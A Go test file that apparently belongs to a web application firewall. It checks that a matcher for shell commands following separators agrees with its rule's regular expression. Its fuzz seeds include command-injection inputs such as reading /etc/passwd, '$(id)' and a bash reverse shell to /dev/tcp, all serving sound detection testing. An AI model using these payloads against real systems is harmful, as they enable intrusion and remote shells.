package inspect

import (
	"net/url"
	"regexp"
	"testing"

	"github.com/rampartsec/rampart/internal/inspect/inspecttest"
)

// sepCmdWhole is rule 120001's expression alone, as it ran before
// separatorCommand.
var sepCmdWhole = regexp.MustCompile(`(?i)` + sepCmdProgram + `|` + sepCmdID + `|` + sepCmdBrace + `|` + sepCmdDev)

// checkSeparatorCommand fails when separatorCommand and the whole
// expression disagree on s, about the verdict or the place.
func checkSeparatorCommand(t *testing.T, match func(string) (int, int, bool), s string) {
	t.Helper()
	start, end, ok := match(s)
	loc := sepCmdWhole.FindStringIndex(s)
	if ok != (loc != nil) || ok && (start != loc[0] || end != loc[1]) {
		t.Fatalf("on %q: separatorCommand says %v at %d-%d, the expression %v", s, ok, start, end, loc)
	}
}

// TestSeparatorCommandAgreesOnCorpora runs rule 120001's matcher and its
// expression on every payload of the attack and benign corpora and of the
// generated browsing traffic, raw and decoded.
func TestSeparatorCommandAgreesOnCorpora(t *testing.T) {
	match := separatorCommand()
	var items []inspecttest.CorpusItem
	for _, name := range []string{"attacks.txt", "attacks_level1_crs_style.txt", "attacks_level2_crs_style.txt", "attacks_level3_crs_style.txt", "benign.txt"} {
		list, err := inspecttest.LoadCorpus("testdata/"+name, name != "benign.txt")
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, list...)
	}
	items = append(items, inspecttest.BrowsingTraffic()...)
	matched := 0
	for _, it := range items {
		checkSeparatorCommand(t, match, it.Payload)
		if dec, err := url.QueryUnescape(it.Payload); err == nil {
			checkSeparatorCommand(t, match, dec)
		}
		if _, _, ok := match(it.Payload); ok {
			matched++
		}
	}
	if matched == 0 {
		t.Fatal("no payload matched: the corpora hold commands after separators")
	}
}

// FuzzSeparatorCommand holds rule 120001's matcher to the verdicts and
// places of its expression.
func FuzzSeparatorCommand(f *testing.F) {
	for _, s := range []string{
		"; ls -la", "a|whoami", "x && cat /etc/passwd", "$(id)", "foo;id", "foo;id  \n", "a\nid", "FOO;ID",
		"`uname`", "; {ls,-l}", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/DEV/UDP/x", "Step 1: open Settings; step 2: clear data;",
		"Tom & Jerry", "a;echo hi > x", "|| ping -c 1 x", "; /usr/bin/id", "said", "x;ſh", "&net user", "; dir c:\\",
	} {
		f.Add(s)
	}
	match := separatorCommand()
	f.Fuzz(func(t *testing.T, s string) { checkSeparatorCommand(t, match, s) })
}
